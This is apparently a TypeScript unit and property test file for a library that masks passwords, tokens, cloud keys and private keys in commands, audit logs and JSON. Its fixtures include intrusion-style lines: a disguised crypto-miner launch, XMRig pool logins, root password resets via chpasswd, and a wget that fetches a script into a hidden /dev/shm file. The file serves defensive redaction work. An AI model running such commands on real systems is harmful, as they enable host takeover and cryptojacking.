import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { maskArguments, maskDeep, maskSecrets } from './secrets.ts'

const hex = (text: string): string => Buffer.from(text).toString('hex').toUpperCase()
/** Put together here, so that scanners for leaked keys do not take this file for a leak. */
const AWS_ID = ['AKIA', 'IOSFODNN7EXAMPLE'].join('')
const AWS_SECRET = ['wJalrXUtnFEMI/K7MDENG', '/bPxRfiCYEXAMPLEKEY'].join('')
const JWT = ['eyJhbGciOiJIUzI1NiJ9', 'eyJzdWIiOiJyb290In0', 'c2lnbmF0dXJl'].join('.')

const MASKED: readonly (readonly [string, string])[] = [
  ['mysql -u root -pS3cret db', 'mysql -u root -p[masked] db'],
  ["mysql -p'S3 cret' db", 'mysql -p[masked] db'],
  ['mysqldump --password=S3cret x', 'mysqldump --password=[masked] x'],
  ['tool --password S3cret x', 'tool --password [masked] x'],
  ['sshpass -p S3cret ssh root@10.0.0.1', 'sshpass -p [masked] ssh root@10.0.0.1'],
  ['sshpass -pS3cret ssh x', 'sshpass -p[masked] ssh x'],
  ['SSHPASS=S3cret sshpass -e ssh x', 'SSHPASS=[masked] sshpass -e ssh x'],
  ['PASS=S3cret ./run', 'PASS=[masked] ./run'],
  ['export DB_PASSWORD="S3 cret"', 'export DB_PASSWORD="[masked]"'],
  ['MYSQL_PWD=S3cret mysql', 'MYSQL_PWD=[masked] mysql'],
  ['echo "root:S3cret"|chpasswd', 'echo "root:[masked]"|chpasswd'],
  ['bash -c \'echo "root:S3cret" | chpasswd\'', 'bash -c \'echo "root:[masked]" | chpasswd\''],
  ['echo S3cret | passwd --stdin root', 'echo [masked] | passwd --stdin root'],
  ['echo -e "S3cret\\nS3cret" | passwd root', 'echo -e "[masked]" | passwd root'],
  ['echo S3cret | sudo -S id', 'echo [masked] | sudo -S id'],
  ['chpasswd <<< "root:S3cret"', 'chpasswd <<< "[masked]"'],
  ['curl -u admin:S3cret http://x', 'curl -u admin:[masked] http://x'],
  ['curl http://user:S3cret@192.0.2.1/x', 'curl http://user:[masked]@192.0.2.1/x'],
  ['curl -H "Authorization: Bearer abc123def456"', 'curl -H "Authorization: Bearer [masked]"'],
  ['Authorization: Basic cm9vdDpTM2NyZXQ=', 'Authorization: Basic [masked]'],
  [
    './kworker -o pool.example:3333 -u 4WALLET -p S3cret',
    './kworker -o pool.example:3333 -u 4WALLET -p [masked]',
  ],
  ['docker login -u me -p S3cret', 'docker login -u me -p [masked]'],
  ['redis-cli -a S3cret ping', 'redis-cli -a [masked] ping'],
  ['COMMAND=/usr/bin/mysql -pS3cret', 'COMMAND=/usr/bin/mysql -p[masked]'],
  [
    '{"login":"4WALLET","pass":"S3cret","agent":"XMRig"}',
    '{"login":"4WALLET","pass":"[masked]","agent":"XMRig"}',
  ],
  ['"{\\"pass\\":\\"S3cret\\",\\"n\\":1}"', '"{\\"pass\\":\\"[masked]\\",\\"n\\":1}"'],
  ['{"pass":12345,"n":1}', '{"pass":[masked],"n":1}'],
  [
    '{"id":1,"method":"mining.authorize","params":["WALLET.w1","S3cret"]}',
    '{"id":1,"method":"mining.authorize","params":["WALLET.w1","[masked]"]}',
  ],
  [`id ${AWS_ID} secret ${AWS_SECRET}`, 'id AKIA…PLE secret [masked]'],
  [`aws_secret_access_key = ${AWS_SECRET}`, 'aws_secret_access_key = [masked]'],
  [
    `aws configure set aws_secret_access_key ${AWS_SECRET}`,
    'aws configure set aws_secret_access_key [masked]',
  ],
  [`x\\n${AWS_ID}\\n`, 'x\\nAKIA…PLE\\n'],
  [`cookie-free ${JWT} end`, 'cookie-free eyJ[masked] end'],
  [`ghp_${'a1B2'.repeat(9)}`, 'ghp_[masked]'],
  [`glpat-${'a1B2'.repeat(5)}`, 'glpat-[masked]'],
  [`xoxb-${'12345'.repeat(2)}-abcdef`, 'xoxb-[masked]'],
  [`AIza${'a1B2_'.repeat(7)}`, 'AIza[masked]'],
  [
    `https://api.telegram.org/bot123456789:${'a1B2c'.repeat(7)}/x`,
    'https://api.telegram.org/bot123456789:[masked]/x',
  ],
  [
    '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nafter',
    '-----BEGIN RSA PRIVATE KEY-----[masked]-----END RSA PRIVATE KEY-----\nafter',
  ],
  ['-----BEGIN OPENSSH PRIVATE KEY-----\ncut off', '-----BEGIN OPENSSH PRIVATE KEY-----[masked]'],
  [
    'type=EXECVE argc=3 a0="mysql" a1="-pS3cret" a2="db"',
    'type=EXECVE argc=3 a0="mysql" a1="-p[masked]" a2="db"',
  ],
  [
    'type=EXECVE argc=3 a0="x" a1="--password" a2="S3cret"',
    'type=EXECVE argc=3 a0="x" a1="--password" a2="[masked]"',
  ],
  [
    `type=EXECVE argc=3 a0="sh" a1="-c" a2=${hex('echo "root:S3cret"|chpasswd')}`,
    `type=EXECVE argc=3 a0="sh" a1="-c" a2="echo 'root:[masked]'|chpasswd"`,
  ],
  [
    `type=PROCTITLE proctitle=${hex('sshpass\0-p\0S3cret\0ssh')}`,
    'type=PROCTITLE proctitle="sshpass -p [masked] ssh"',
  ],
  [`cwd="/" cmd=${hex('mysql -pS3cret')} res=success`, 'cwd="/" cmd="mysql -p[masked]" res=success'],
  ['{"_CMDLINE":"mysql -u root -pS3cret","_PID":"1"}', '{"_CMDLINE":"mysql -u root -p[masked]","_PID":"1"}'],
  ['password: S3cret', 'password: [masked]'],
  ['https://x.example/?token=S3cret&page=2', 'https://x.example/?token=[masked]&page=2'],
]

const KEPT = [
  'Failed password for root from 192.0.2.1 port 22 ssh2',
  'Accepted publickey for deploy from 192.0.2.1 port 22 ssh2: ED25519 SHA256:uNiVztksCsDhcc0u9e8BrrbSn1MMn8VwM9lZp2TYH3o',
  'pam_unix(passwd:chauthtok): password changed for root',
  'root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls -p',
  'tail: /etc/passwd: file truncated',
  'ssh -p 2222 root@host',
  'mkdir -p /tmp/x && cp -p a b | tee -a c',
  `type=PROCTITLE proctitle=${hex('curl\0-so\0/tmp/x')}`,
  'type=SYSCALL a0=7ffd a1=3 key="miner" ses=1 exe="/bin/x" auid=1000',
  'sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  `{"login":"48${'exampleWALLET'.repeat(7)}","agent":"XMRig/6.21.0"}`,
  'basic authentication failed; bearer tokens are off',
  '"token":null,"password":""',
  'wget http://198.51.100.7:8080/x@y.sh -O /dev/shm/.x',
  'ansible-playbook --private-key ~/.ssh/id_ed25519 --ask-pass site.yml',
  "root's password 'tis",
]

/** What masking looks for, to be put together in ways nobody thought of. */
const PIECES = [
  ...'password|pass=|"pass":"| -p| --token |echo |chpasswd|passwd|mysql|sshpass|sudo -S|curl -u a:b'.split(
    '|',
  ),
  ...'a0="~ a1="~"~\'~\\~\\"~|~<<<~\n~;~&~ ~=~:~.~x~://~@~,~{~}~[~]~%~/p:~?token=~api_key~/etc/x'.split('~'),
  ...'Bearer ~cookie:~eyJ~proctitle=~6D7973716C~2D7078~00~-----BEGIN PRIVATE KEY-----~-----END'.split('~'),
  '[masked]',
  AWS_ID,
  '"params":["a","b"]',
  'mining.authorize',
  'bash -c ',
  'authorization: ',
  'Basic abcd1234',
]

describe('maskSecrets', () => {
  it.each(MASKED)('%s', (text, masked) => {
    expect(maskSecrets(text)).toBe(masked)
  })

  it.each(KEPT)('keeps %s', (text) => {
    expect(maskSecrets(text)).toBe(text)
  })

  it.each([...MASKED.map(([text]) => text), ...KEPT])('changes nothing twice: %s', (text) => {
    const once = maskSecrets(text)
    expect(maskSecrets(once)).toBe(once)
  })

  const secret = fc.stringMatching(/^[A-Za-z][A-Za-z0-9]{7,18}$/).map((text) => `Zq${text}`)
  const around = fc.string({
    unit: fc.constantFrom(...' abc.,:;=-_|/"\'\\{}[]()<>@#$&\n'.split('')),
    maxLength: 20,
  })
  const holders: readonly ((secret: string) => string)[] = [
    (it) => `--password=${it} x`,
    (it) => `"password":"${it}"`,
    (it) => `DB_PASSWORD=${it}`,
    (it) => `https://u:${it}@h/`,
    (it) => `"pass" : "${it}"`,
    (it) => `-----BEGIN EC PRIVATE KEY-----${it}-----END EC PRIVATE KEY-----`,
    (it) => ` sshpass -p ${it} ssh`,
  ]

  it('finds a secret whatever stands before it, as long as its place is intact', () => {
    fc.assert(
      fc.property(fc.constantFrom(...holders), secret, around, (hold, value, after) => {
        expect(maskSecrets(`x ${hold(value)} ${after}`)).not.toContain(value)
      }),
      { seed: 12, numRuns: 400 },
    )
  })

  it('grows by little, and twice is once, on any text', () => {
    const pieces = fc.constantFrom(...PIECES)
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        const text = parts.join('')
        const once = maskSecrets(text)
        expect(once.length).toBeLessThanOrEqual(text.length * 9 + 20)
        expect(maskSecrets(once)).toBe(once)
      }),
      { seed: 13, numRuns: 2000 },
    )
  })
})

describe('maskArguments', () => {
  it.each([
    [
      ['mysql', '-pS3cret'],
      ['mysql', '-p[masked]'],
    ],
    [
      ['/usr/bin/sshpass', '-p', 'S3cret', 'ssh'],
      ['/usr/bin/sshpass', '-p', '[masked]', 'ssh'],
    ],
    [
      ['sh', '-c', 'echo "a:S3cret" | chpasswd'],
      ['sh', '-c', 'echo "a:[masked]" | chpasswd'],
    ],
    [
      ['env', 'TOKEN=S3cret', 'x'],
      ['env', 'TOKEN=[masked]', 'x'],
    ],
    [
      ['ls', '-p', '/tmp'],
      ['ls', '-p', '/tmp'],
    ],
    [[], []],
  ])('%j', (args, masked) => {
    expect(maskArguments(args)).toEqual(masked)
  })
})

describe('maskDeep', () => {
  it('masks by content and by name, and keeps the rest', () => {
    const tree = {
      commandLine: 'mysql -pS3cret',
      args: ['sshpass', '-p', 'S3cret'],
      config: { password: 'S3cret', port: 22, isOn: true, none: null },
      list: ['PASS=S3cret', 5],
      key: 'sshd_config',
    }
    expect(maskDeep(tree)).toEqual({
      commandLine: 'mysql -p[masked]',
      args: ['sshpass', '-p', '[masked]'],
      config: { password: '[masked]', port: 22, isOn: true, none: null },
      list: ['PASS=[masked]', 5],
      key: 'sshd_config',
    })
  })

  it('survives depth', () => {
    let tree: unknown = 'S3cret'
    for (let i = 0; i < 100_000; i += 1) tree = [tree]
    expect(JSON.stringify(maskDeep(tree))).toContain('[masked]')
  })
})
